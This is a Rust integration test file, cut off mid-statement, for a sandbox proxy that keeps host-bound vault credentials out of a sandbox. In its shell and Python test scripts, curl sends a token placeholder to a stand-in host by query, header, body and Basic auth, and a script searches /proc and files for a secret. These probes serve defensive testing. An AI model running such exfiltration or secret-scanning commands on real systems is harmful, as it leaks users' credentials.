//! Credential sentinels (issue 16): a vault entry bound to hosts never enters the sandbox.
//!
//! Every server is one the test starts on 127.0.0.1: HTTPS servers (HTTP/2 and HTTP/1.1)
//! with certificates the test makes with its own CA, which the proxy trusts through the
//! operator's `network.upstream_ca`, under names the operator config pins to 127.0.0.1.
//! The clients are the real ones inside a sandbox started by `git loop run`: curl,
//! Python's urllib and requests, Node's fetch, git over HTTPS. Each attack has its twin:
//! the bound host receives the value from the same client that fails to send it elsewhere.

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener as StdListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{BodyExt, Full};

use crate::common::{apply_fix, Run, TestEnv};

/// The real value: it must never be seen inside.
const TOKEN: &str = "ghp_REALvalue0123456789abcdefABCDEF012345";
/// Another bound entry's value, bound to another host.
const OTHER: &str = "sk-ant-api03-OTHERsecret0123456789-abcdefghijklmnop";

// ---------------------------------------------------------------------------------------
// Certificates and servers
// ---------------------------------------------------------------------------------------

/// The test's own CA and a server certificate for `names`, made with rcgen.
struct TestCa {
    ca_pem: String,
    cert: rustls::pki_types::CertificateDer<'static>,
    key: Vec<u8>,
}

fn test_ca(names: &[&str]) -> TestCa {
    let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "sentinel test CA");
    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    params.key_usages = vec![
        rcgen::KeyUsagePurpose::KeyCertSign,
        rcgen::KeyUsagePurpose::DigitalSignature,
    ];
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let issuer = rcgen::CertifiedIssuer::self_signed(params, ca_key).unwrap();
    let mut leaf =
        rcgen::CertificateParams::new(names.iter().map(|n| n.to_string()).collect::<Vec<_>>())
            .unwrap();
    leaf.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ServerAuth];
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let cert = leaf.signed_by(&leaf_key, &issuer).unwrap();
    TestCa {
        ca_pem: issuer.pem(),
        cert: cert.der().clone(),
        key: leaf_key.serialize_der(),
    }
}

/// One request an HTTPS server received.
#[derive(Debug, Clone)]
struct Seen {
    conn: usize,
    version: String,
    method: String,
    path: String,
    headers: BTreeMap<String, String>,
    body: Vec<u8>,
    /// The whole body arrived (the client did not stop half-way).
    complete: bool,
}

/// An HTTPS server on 127.0.0.1 (HTTP/2 and HTTP/1.1), recording every request. It serves
/// `git http-backend` under `/git/` (Basic credentials required: the real token), echoes
/// the Authorization header back in `X-Echo` on `/echo`, and answers `ok` elsewhere.
struct Https {
    port: u16,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Https {
    fn start(ca: &TestCa, git_root: Option<PathBuf>) -> Https {
        let listener = StdListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let mut config = rustls::ServerConfig::builder_with_provider(Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![ca.cert.clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(ca.key.clone().into()),
        )
        .unwrap();
        config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
        let log = seen.clone();
        std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async move {
                let listener = tokio::net::TcpListener::from_std(listener).unwrap();
                let conns = Arc::new(AtomicUsize::new(0));
                loop {
                    let Ok((tcp, _)) = listener.accept().await else {
                        continue;
                    };
                    let (acceptor, log, git_root) = (acceptor.clone(), log.clone(), git_root.clone());
                    let conn = conns.fetch_add(1, Ordering::SeqCst);
                    tokio::spawn(async move {
                        let Ok(tls) = acceptor.accept(tcp).await else {
                            return;
                        };
                        let service = hyper::service::service_fn(move |req| {
                            let (log, git_root) = (log.clone(), git_root.clone());
                            async move { Ok::<_, Infallible>(respond(req, conn, &log, git_root).await) }
                        });
                        let _ = hyper_util::server::conn::auto::Builder::new(
                            hyper_util::rt::TokioExecutor::new(),
                        )
                        .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
                        .await;
                    });
                }
            });
        });
        Https { port, seen }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    /// Every byte the server received, heads and bodies, as text.
    fn everything(&self) -> String {
        self.seen()
            .iter()
            .map(|s| {
                format!(
                    "{} {}\n{:?}\n{}\n",
                    s.method,
                    s.path,
                    s.headers,
                    String::from_utf8_lossy(&s.body)
                )
            })
            .collect()
    }
}

/// What the test server answers with: a whole body, or one sent in pieces.
type Reply = http_body_util::Either<Full<Bytes>, Pieces>;

fn whole(body: impl Into<Bytes>) -> Reply {
    http_body_util::Either::Left(Full::new(body.into()))
}

/// A body sent in pieces, each after a pause, so that each reaches the proxy on its own
/// (a form of the value cut between two of them).
struct Pieces {
    parts: std::collections::VecDeque<Bytes>,
    pause: Option<std::pin::Pin<Box<tokio::time::Sleep>>>,
}

impl hyper::body::Body for Pieces {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<hyper::body::Frame<Bytes>, Infallible>>> {
        use std::future::Future;
        if let Some(p) = self.pause.as_mut() {
            std::task::ready!(p.as_mut().poll(cx));
            self.pause = None;
        }
        match self.parts.pop_front() {
            Some(part) => {
                self.pause = Some(Box::pin(tokio::time::sleep(Duration::from_millis(20))));
                std::task::Poll::Ready(Some(Ok(hyper::body::Frame::data(part))))
            }
            None => std::task::Poll::Ready(None),
        }
    }
}

/// `text` percent-encoded as a URL's component (RFC 3986's unreserved characters kept).
fn pct(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

fn b64(text: &str) -> String {
    base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text)
}

fn b64url(text: &str) -> String {
    base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, text)
}

/// The mirror's text: every request header, the Authorization header in the forms
/// servers echo credentials in, the credential after its scheme as Basic credentials
/// would carry it, and the request's body.
fn mirror_text(headers: &BTreeMap<String, String>, body: &[u8]) -> String {
    let auth = headers.get("authorization").cloned().unwrap_or_default();
    let credential = auth.split_once(' ').map_or(auth.as_str(), |(_, c)| c);
    let mut text = String::from("{\"headers\": ");
    text.push_str(&serde_json::to_string(headers).unwrap());
    text.push_str("}\n");
    for (label, form) in [
        ("raw", auth.clone()),
        ("pct", pct(&auth)),
        ("b64", b64(&auth)),
        ("b64url", b64url(&auth)),
        ("hex", hex(&auth)),
        ("basic", b64(&format!("x-access-token:{credential}"))),
    ] {
        text.push_str(&format!("{label}: {form}\n"));
    }
    text.push_str("body: ");
    text.push_str(&String::from_utf8_lossy(body));
    text.push('\n');
    text
}

/// `/mirror...`: the request echoed (see [`mirror_text`]), its Authorization in response
/// headers too; `-split` sends the body in pieces of 7 bytes, `-gzip` compresses it with
/// gzip (asked or not), `-br` claims a coding the proxy cannot read.
fn mirror(path: &str, headers: &BTreeMap<String, String>, body: &[u8]) -> hyper::Response<Reply> {
    let auth = headers.get("authorization").cloned().unwrap_or_default();
    let text = mirror_text(headers, body);
    let mut resp = hyper::Response::builder()
        .status(200)
        .header("content-type", "text/plain")
        .header("x-echo", auth.as_str())
        .header("x-echo-pct", pct(&auth))
        .header("x-echo-b64", b64(&auth))
        .header("x-echo-b64url", b64url(&auth))
        .header("x-echo-hex", hex(&auth))
        .header("set-cookie", format!("seen={}; Path=/", pct(&auth)));
    if path.contains("-gzip") {
        use std::io::Write as _;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(text.as_bytes()).unwrap();
        resp = resp.header("content-encoding", "gzip");
        return resp.body(whole(e.finish().unwrap())).unwrap();
    }
    if path.contains("-br") {
        resp = resp.header("content-encoding", "br");
        return resp.body(whole(text)).unwrap();
    }
    if path.contains("-split") {
        let parts = text
            .as_bytes()
            .chunks(7)
            .map(Bytes::copy_from_slice)
            .collect();
        return resp
            .body(http_body_util::Either::Right(Pieces { parts, pause: None }))
            .unwrap();
    }
    resp.body(whole(text)).unwrap()
}

async fn respond(
    req: hyper::Request<hyper::body::Incoming>,
    conn: usize,
    log: &Mutex<Vec<Seen>>,
    git_root: Option<PathBuf>,
) -> hyper::Response<Reply> {
    let (parts, body) = req.into_parts();
    let (body, complete) = match body.collect().await {
        Ok(b) => (b.to_bytes().to_vec(), true),
        Err(_) => (Vec::new(), false),
    };
    let headers: BTreeMap<String, String> = parts
        .headers
        .iter()
        .map(|(k, v)| {
            (
                k.to_string(),
                String::from_utf8_lossy(v.as_bytes()).into_owned(),
            )
        })
        .collect();
    let path = parts
        .uri
        .path_and_query()
        .map(|p| p.to_string())
        .unwrap_or_default();
    log.lock().unwrap().push(Seen {
        conn,
        version: format!("{:?}", parts.version),
        method: parts.method.to_string(),
        path: path.clone(),
        headers: headers.clone(),
        body: body.clone(),
        complete,
    });
    if let (Some(root), Some(rest)) = (git_root, path.strip_prefix("/git/")) {
        let expected = format!(
            "Basic {}",
            base64::Engine::encode(
                &base64::engine::general_purpose::STANDARD,
                format!("x-access-token:{TOKEN}")
            )
        );
        if headers.get("authorization") != Some(&expected) {
            return hyper::Response::builder()
                .status(401)
                .header("www-authenticate", "Basic realm=\"git\"")
                .body(whole("credentials needed\n"))
                .unwrap();
        }
        let (path_info, query) = rest.split_once('?').unwrap_or((rest, ""));
        let (path_info, query) = (path_info.to_string(), query.to_string());
        let method = parts.method.to_string();
        let content_type = headers.get("content-type").cloned().unwrap_or_default();
        let out = tokio::task::spawn_blocking(move || {
            git_backend(&root, &method, &path_info, &query, &content_type, &body)
        })
        .await
        .unwrap();
        return out.map(http_body_util::Either::Left);
    }
    if let Some(n) = path.strip_prefix("/large/") {
        let body = large_body(n.parse().unwrap());
        return hyper::Response::builder()
            .status(200)
            .body(whole(body))
            .unwrap();
    }
    if path.starts_with("/mirror") {
        return mirror(&path, &headers, &body);
    }
    // `/redirect?to=URL`: a redirect to URL, with TOKEN_HERE in it replaced by the value
    // (as a server that puts a credential in a link would), B64_HERE by its base64.
    if let Some(to) = path.strip_prefix("/redirect?to=") {
        let to = to
            .replace("TOKEN_HERE", TOKEN)
            .replace("B64_HERE", &b64url(TOKEN));
        return hyper::Response::builder()
            .status(302)
            .header("location", to)
            .body(whole("moved\n"))
            .unwrap();
    }
    let mut resp = hyper::Response::builder().status(200);
    if path.starts_with("/echo") {
        if let Some(a) = headers.get("authorization") {
            resp = resp.header("x-echo", a.as_str());
        }
    }
    resp.body(whole(format!("ok {path}\n"))).unwrap()
}

/// The body of `/large/N`: N bytes that repeat no short pattern.
fn large_body(n: usize) -> Vec<u8> {
    (0..n).map(|i| (i * 7 + i / 251) as u8).collect()
}

/// `git http-backend` as a CGI program, for git over HTTPS.
fn git_backend(
    root: &Path,
    method: &str,
    path_info: &str,
    query: &str,
    content_type: &str,
    body: &[u8],
) -> hyper::Response<Full<Bytes>> {
    let mut child = Command::new("git")
        .arg("http-backend")
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("GIT_PROJECT_ROOT", root)
        .env("GIT_HTTP_EXPORT_ALL", "1")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("REQUEST_METHOD", method)
        .env("PATH_INFO", format!("/{path_info}"))
        .env("QUERY_STRING", query)
        .env("CONTENT_TYPE", content_type)
        .env("CONTENT_LENGTH", body.len().to_string())
        .env("REMOTE_USER", "x-access-token")
        .env("REMOTE_ADDR", "127.0.0.1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(body).unwrap();
    let out = child.wait_with_output().unwrap();
    let split = out
        .stdout
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .map(|i| (i, 4))
        .or_else(|| {
            out.stdout
                .windows(2)
                .position(|w| w == b"\n\n")
                .map(|i| (i, 2))
        })
        .unwrap_or((out.stdout.len(), 0));
    let head = String::from_utf8_lossy(&out.stdout[..split.0]).into_owned();
    let mut resp = hyper::Response::builder().status(200);
    for line in head.lines() {
        if let Some((k, v)) = line.split_once(':') {
            if k.eq_ignore_ascii_case("status") {
                let code: u16 = v.trim()[..3].parse().unwrap_or(500);
                resp = resp.status(code);
            } else {
                resp = resp.header(k.trim(), v.trim());
            }
        }
    }
    resp.body(Full::new(Bytes::from(
        out.stdout[split.0 + split.1..].to_vec(),
    )))
    .unwrap()
}

/// A plain HTTP server that must receive nothing: it records every connection.
struct Canary {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Canary {
    fn start() -> Canary {
        let listener = StdListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let h = hits.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut s) = stream else { continue };
                h.fetch_add(1, Ordering::SeqCst);
                let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                let mut buf = [0u8; 4096];
                let _ = s.read(&mut buf);
                let _ = s.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
                );
            }
        });
        Canary { port, hits }
    }
}

// ---------------------------------------------------------------------------------------
// The workspace
// ---------------------------------------------------------------------------------------

/// Two HTTPS hosts, `api.bound.test` (the token is bound to it) and `other.test` (allowed,
/// nothing bound to it), both on the test's CA, which the proxy trusts; the second entry
/// bound to `llm.bound.test`. A loop, and its workdir's `tls/ca.pem` for clients that
/// reach `other.test` through a plain tunnel.
struct Setup {
    env: TestEnv,
    id: String,
    /// The CA of the test servers, which the proxy trusts.
    ca: TestCa,
    bound: Https,
    other: Https,
    canary: Canary,
    git_root: PathBuf,
}

fn vault_set(env: &TestEnv, args: &[&str], value: &str) -> Run {
    let mut child = env
        .command()
        .current_dir(&env.root)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // A command that refuses its arguments exits before it reads its input.
    let _ = child.stdin.take().unwrap().write_all(value.as_bytes());
    let out = child.wait_with_output().unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

impl Setup {
    fn new() -> Setup {
        let env = TestEnv::new();
        let repo = env.repo("app");
        let id = env.new_loop(&repo, "sentinels");
        let ca = test_ca(&["api.bound.test", "other.test", "llm.bound.test"]);
        let ca_file = env.root.join("test-ca.pem");
        fs::write(&ca_file, &ca.ca_pem).unwrap();
        // A bare repository for git over HTTPS.
        let git_root = env.root.join("served");
        fs::create_dir_all(&git_root).unwrap();
        env.git(
            &git_root,
            ["clone", "-q", "--bare", repo.to_str().unwrap(), "repo.git"],
        );
        let bound = Https::start(&ca, Some(git_root.clone()));
        let other = Https::start(&ca, None);
        let canary = Canary::start();
        let dir = env.home.join(".config/git-loop");
        fs::create_dir_all(&dir).unwrap();
        fs::write(
            dir.join("config.toml"),
            format!(
                "[network]\nallow_cidrs = [\"127.0.0.0/8\"]\n\
                 allow_domains = [\"api.bound.test\", \"other.test\", \"llm.bound.test\"]\n\
                 upstream_ca = {:?}\n\n\
                 [network.hosts]\n\"api.bound.test\" = \"127.0.0.1\"\n\
                 \"other.test\" = \"127.0.0.1\"\n\"llm.bound.test\" = \"127.0.0.1\"\n",
                ca_file.display().to_string()
            ),
        )
        .unwrap();
        // The CA of the test servers, for clients that reach other.test through a tunnel.
        let tls = env.workdir(&id).join("tls");
        fs::create_dir_all(&tls).unwrap();
        fs::write(tls.join("ca.pem"), &ca.ca_pem).unwrap();
        // Bound to the servers' ports: a binding without one is port 443 alone.
        vault_set(
            &env,
            &[
                "vault",
                "set",
                "default",
                "env",
                "GITHUB_TOKEN",
                "--for",
                &format!("api.bound.test:{}", bound.port),
            ],
            TOKEN,
        )
        .ok();
        vault_set(
            &env,
            &[
                "vault",
                "set",
                "default",
                "env",
                "LLM_KEY",
                "--for",
                &format!("llm.bound.test:{}", bound.port),
            ],
            OTHER,
        )
        .ok();
        Setup {
            env,
            id,
            ca,
            bound,
            other,
            canary,
            git_root,
        }
    }

    /// `git loop run -q ID -- sh -c SCRIPT` with the ports in `$BOUND`, `$OTHER`, `$CANARY`.
    fn sh(&self, script: &str) -> Run {
        let prelude = format!(
            "BOUND={}; OTHER={}; CANARY={}; ",
            self.bound.port, self.other.port, self.canary.port
        );
        self.env.run([
            "run",
            "-q",
            &self.id,
            "--",
            "sh",
            "-c",
            &format!("{prelude}{script}"),
        ])
    }

    fn violations(&self) -> Vec<serde_json::Value> {
        fs::read_to_string(self.env.loop_dir(&self.id).join("events.jsonl"))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|e| e["kind"] == "violation")
            .collect()
    }

    /// A credential violation naming `entry` toward `target`; no event names a value.
    #[track_caller]
    fn assert_credential_violation(&self, target: &str, entry: &str) {
        let all = self.violations();
        assert!(
            all.iter()
                .any(|v| v["rule"] == "credential" && v["entry"] == entry && v["target"] == target),
            "no credential violation for {entry} toward {target}: {all:#?}"
        );
        let events = fs::read_to_string(self.env.loop_dir(&self.id).join("events.jsonl")).unwrap();
        assert!(
            !events.contains(TOKEN) && !events.contains(OTHER),
            "{events}"
        );
    }
}

/// Values of `LABEL => value` lines.
#[track_caller]
fn probe<'a>(run: &'a Run, label: &str) -> &'a str {
    let prefix = format!("{label} => ");
    run.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| {
            panic!(
                "no {label} in:\nstdout:\n{}\nstderr:\n{}",
                run.stdout, run.stderr
            )
        })
}

// ---------------------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------------------

/// Inside there is only a placeholder shaped like the token, in no process's environment,
/// command line or file is the value; `vault list` and the status line say what is bound.
#[test]
fn the_value_is_nowhere_inside() {
    let s = Setup::new();
    // The search is handed the value reversed, so that its own command line and
    // environment do not hold it either.
    let reversed: String = TOKEN.chars().rev().collect();
    let search = r#"
import os, sys
value = sys.argv[1][::-1].encode()
found = []
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for part in ("environ", "cmdline"):
        try:
            data = open("/proc/%s/%s" % (pid, part), "rb").read()
        except OSError:
            continue
        if value in data:
            found.append("/proc/%s/%s" % (pid, part))
files = 0
for top in (os.environ["HOME"], "/tmp", "/loopat", "/etc"):
    for root, dirs, names in os.walk(top):
        for n in names:
            p = os.path.join(root, n)
            try:
                if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > 8 << 20:
                    continue
                data = open(p, "rb").read()
            except OSError:
                continue
            files += 1
            if value in data:
                found.append(p)
print("found =>", found)
print("files =>", files)
t = os.environ["GITHUB_TOKEN"]
print("shape =>", t[:4], len(t), t == sys.argv[1][::-1])
"#;
    let run = s
        .env
        .run(["run", &s.id, "--", "python3", "-c", search, &reversed]);
    let run = run.ok();
    assert_eq!(probe(&run, "found"), "[]");
    assert!(probe(&run, "files").parse::<usize>().unwrap() > 10);
    assert_eq!(probe(&run, "shape"), format!("ghp_ {} False", TOKEN.len()));
    run.stderr_has("vault default (0 plaintext, 2 bound)");
    // The run's CA is trusted inside: the variables point at the bundle.
    let vars = s.sh("echo \"$SSL_CERT_FILE|$NODE_EXTRA_CA_CERTS|$GIT_SSL_CAINFO|$REQUESTS_CA_BUNDLE|$CURL_CA_BUNDLE\"; grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt $SSL_CERT_FILE").ok();
    assert!(vars.stdout.starts_with(
        "/loopat/.git-loop/ca-bundle.pem|/loopat/.git-loop/ca.pem|/loopat/.git-loop/ca-bundle.pem|/loopat/.git-loop/ca-bundle.pem|/loopat/.git-loop/ca-bundle.pem"
    ), "{}", vars.stdout);
    // The bundle is the host's with the run's CA appended, and it is laid over the
    // system's path too, for programs that read none of the variables.
    let count = |file: &str| -> usize {
        vars.stdout
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{file}:")))
            .unwrap_or_else(|| panic!("{file}: {}", vars.stdout))
            .parse()
            .unwrap()
    };
    let host = fs::read_to_string("/etc/ssl/certs/ca-certificates.crt")
        .unwrap()
        .matches("BEGIN CERTIFICATE")
        .count();
    assert!(host > 10, "{host}");
    assert_eq!(count("/loopat/.git-loop/ca-bundle.pem"), host + 1);
    assert_eq!(count("/etc/ssl/certs/ca-certificates.crt"), host + 1);
    let ends = s
        .sh("tail -c $(wc -c < $NODE_EXTRA_CA_CERTS) $SSL_CERT_FILE | cmp - $NODE_EXTRA_CA_CERTS && echo 'last => the run CA'")
        .ok();
    assert_eq!(probe(&ends, "last"), "the run CA");
    let list = s.env.run(["vault", "list"]).ok();
    list.stdout_has("GITHUB_TOKEN");
    list.stdout_has("for api.bound.test");
    list.stdout_has("(0 plaintext, 2 bound)");
    assert!(!list.stdout.contains(TOKEN));
}

/// The twin of every refusal below: curl, urllib, requests, Node's fetch and git over
/// HTTPS each reach the bound host with the real value, put in by the proxy.
#[test]
fn the_bound_host_receives_the_value_from_every_client() {
    let s = Setup::new();
    let run = s
        .sh(r#"
curl -sS -o /dev/null -w 'curl => %{http_code} %{http_version}\n' -H "Authorization: Bearer $GITHUB_TOKEN" "https://api.bound.test:$BOUND/curl"
python3 - <<EOF
import json, os, urllib.request
req = urllib.request.Request("https://api.bound.test:$BOUND/urllib?token=" + os.environ["GITHUB_TOKEN"],
    data=json.dumps({"token": os.environ["GITHUB_TOKEN"], "n": 1, "description": os.environ["GITHUB_TOKEN"]}).encode(),
    headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"], "Content-Type": "application/json"})
print("urllib =>", urllib.request.urlopen(req).status)
req = urllib.request.Request("https://api.bound.test:$BOUND/path/" + os.environ["GITHUB_TOKEN"])
print("path =>", urllib.request.urlopen(req).status)
import requests
r = requests.post("https://api.bound.test:$BOUND/requests", data={"client_secret": os.environ["GITHUB_TOKEN"]},
    headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]})
print("requests =>", r.status_code)
EOF
"#)
        .ok();
    assert_eq!(probe(&run, "curl"), "200 2");
    assert_eq!(probe(&run, "urllib"), "200");
    assert_eq!(probe(&run, "requests"), "200");
    let node = s
        .sh(&format!("BOUND=$BOUND node -e {}", shell_quote(NODE_FETCH)))
        .ok();
    assert_eq!(probe(&node, "fetch"), "200");
    let git = s
        .sh(r#"
git -c credential.helper= -c 'credential.helper=!f() { echo username=x-access-token; echo "password=$GITHUB_TOKEN"; }; f' \
    clone -q "https://api.bound.test:$BOUND/git/repo.git" /tmp/clone && echo "git => $(git -C /tmp/clone log -1 --format=%s)"
"#)
        .ok();
    assert_eq!(probe(&git, "git"), "first");
    let seen = s.bound.seen();
    let by_path = |p: &str| {
        seen.iter()
            .find(|r| r.path.starts_with(p))
            .unwrap_or_else(|| panic!("no request for {p}: {seen:#?}"))
            .clone()
    };
    assert_eq!(
        by_path("/curl").headers["authorization"],
        format!("Bearer {TOKEN}")
    );
    assert_eq!(by_path("/curl").version, "HTTP/2.0");
    let urllib = by_path("/urllib");
    assert_eq!(urllib.path, format!("/urllib?token={TOKEN}"));
    assert_eq!(urllib.headers["authorization"], format!("token {TOKEN}"));
    let body: serde_json::Value = serde_json::from_slice(&urllib.body).unwrap();
    assert_eq!(body["token"], TOKEN);
    // Only where a credential travels: not in a field of text, nor in a path, where a
    // server could show it back.
    let description = body["description"].as_str().unwrap();
    assert!(
        description.starts_with("ghp_") && description != TOKEN,
        "{description}"
    );
    assert_eq!(probe(&run, "path"), "200");
    let path = by_path("/path/").path;
    assert!(
        !path.contains(TOKEN) && path.starts_with("/path/ghp_"),
        "{path}"
    );
    let requests = by_path("/requests");
    assert_eq!(requests.headers["authorization"], format!("Bearer {TOKEN}"));
    assert_eq!(
        String::from_utf8_lossy(&requests.body),
        format!("client_secret={TOKEN}")
    );
    assert_eq!(
        by_path("/fetch").headers["authorization"],
        format!("Bearer {TOKEN}")
    );
    assert!(
        seen.iter().any(|r| r.path.contains("git-upload-pack")
            && r.headers
                .get("authorization")
                .is_some_and(|a| a.starts_with("Basic "))),
        "{seen:#?}"
    );
    // Nothing was refused on the way.
    assert!(s.violations().is_empty(), "{:#?}", s.violations());
    let _ = &s.git_root;
}

/// Node 20's fetch reads no proxy variables (Node 24 does, with NODE_USE_ENV_PROXY, which
/// the sandbox sets): a program gives it a dispatcher. The bundled undici's Agent is taken
/// from the global dispatcher and given a connect that goes through the proxy's CONNECT;
/// TLS is Node's own, trusting NODE_EXTRA_CA_CERTS.
const NODE_FETCH: &str = r#"
const net = require("net"), tls = require("tls");
const proxy = new URL(process.env.HTTPS_PROXY);
const auth = "Basic " + Buffer.from(decodeURIComponent(proxy.username) + ":" + decodeURIComponent(proxy.password)).toString("base64");
function connect(opts, cb) {
  const port = Number(opts.port) || 443;
  const s = net.connect(Number(proxy.port), proxy.hostname, () => {
    s.write(`CONNECT ${opts.hostname}:${port} HTTP/1.1\r\nHost: ${opts.hostname}:${port}\r\nProxy-Authorization: ${auth}\r\n\r\n`);
  });
  let buf = Buffer.alloc(0);
  const onData = (d) => {
    buf = Buffer.concat([buf, d]);
    if (buf.indexOf("\r\n\r\n") < 0) return;
    s.removeListener("data", onData);
    if (!/^HTTP\/1\.[01] 200/.test(buf.toString())) return cb(new Error(buf.toString()));
    const t = tls.connect({ socket: s, servername: opts.servername || opts.hostname, ALPNProtocols: ["http/1.1"] }, () => cb(null, t));
    t.once("error", cb);
  };
  s.on("data", onData);
  s.once("error", cb);
}
(async () => {
  await fetch("http://127.0.0.1:9/").catch(() => {});
  const key = Symbol.for("undici.globalDispatcher.1");
  const Agent = globalThis[key].constructor;
  globalThis[key] = new Agent({ connect });
  const url = process.argv[1] || `https://api.bound.test:${process.env.BOUND}/fetch`;
  try {
    const r = await fetch(url, { headers: { Authorization: "Bearer " + process.env.GITHUB_TOKEN } });
    console.log("fetch =>", r.status);
  } catch (e) {
    console.log("fetch =>", "error", e.cause ? e.cause.message : e.message);
  }
})();
"#;

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// The placeholder toward any other host is refused wherever the proxy can read it, and
/// logged naming the entry; toward a host reached through a plain TLS tunnel, which the
/// proxy cannot read, the host gets the placeholder and never the value.
#[test]
fn the_placeholder_goes_nowhere_else() {
    let s = Setup::new();
    let run = s.sh(r#"
# Plain HTTP to an allowed host: in the target, a header, a body.
curl -sS -o /dev/null -w 'http-query => %{http_code}\n' "http://other.test:$CANARY/?t=$GITHUB_TOKEN"
curl -sS -o /dev/null -w 'http-header => %{http_code}\n' -H "Authorization: Bearer $GITHUB_TOKEN" "http://other.test:$CANARY/"
curl -sS -o /dev/null -w 'http-body => %{http_code}\n' --data "token=$GITHUB_TOKEN" "http://other.test:$CANARY/"
curl -sS -o /dev/null -w 'http-basic => %{http_code}\n' -u "x:$GITHUB_TOKEN" "http://other.test:$CANARY/"
# Even toward the bound host, never over plain HTTP.
curl -sS -o /dev/null -w 'http-bound => %{http_code}\n' -H "Authorization: Bearer $GITHUB_TOKEN" "http://api.bound.test:$CANARY/"
# In a name to look up.
curl -sS -o /dev/null -w 'connect-name => %{http_code}\n' "https://$GITHUB_TOKEN.other.test:$OTHER/" 2>/dev/null
echo "connect-name-exit => $?"
# Another entry's placeholder toward the bound host, where the proxy reads everything.
curl -sS -o /dev/null -w 'other-entry => %{http_code}\n' -H "X-Key: $LLM_KEY" "https://api.bound.test:$BOUND/steal"
# A TLS tunnel to an unbound host: carried as it is; the host sees the placeholder.
curl -sS -o /dev/null -w 'tunnel => %{http_code}\n' --cacert tls/ca.pem -H "Authorization: Bearer $GITHUB_TOKEN" "https://other.test:$OTHER/tunnel"
"#).ok();
    for label in [
        "http-query",
        "http-header",
        "http-body",
        "http-basic",
        "http-bound",
        "other-entry",
    ] {
        assert_eq!(probe(&run, label), "403", "{label}: {}", run.stdout);
    }
    assert_ne!(probe(&run, "connect-name-exit"), "0");
    assert_eq!(probe(&run, "tunnel"), "200");
    // The canary and the bound host saw nothing of it.
    assert_eq!(s.canary.hits.load(Ordering::SeqCst), 0);
    assert!(s.bound.seen().iter().all(|r| r.path != "/steal"));
    // The unbound host got the placeholder, never a value.
    let everything = format!("{}{}", s.other.everything(), s.bound.everything());
    assert!(
        !everything.contains(TOKEN) && !everything.contains(OTHER),
        "{everything}"
    );
    let tunnel = s.other.seen();
    assert!(tunnel[0].headers["authorization"].starts_with("Bearer ghp_"));
    let target = format!("other.test:{}", s.canary.port);
    s.assert_credential_violation(&target, "env:GITHUB_TOKEN");
    s.assert_credential_violation(&format!("api.bound.test:{}", s.bound.port), "env:LLM_KEY");
    // The refusal says what happened, and that it is policy.
    let body =
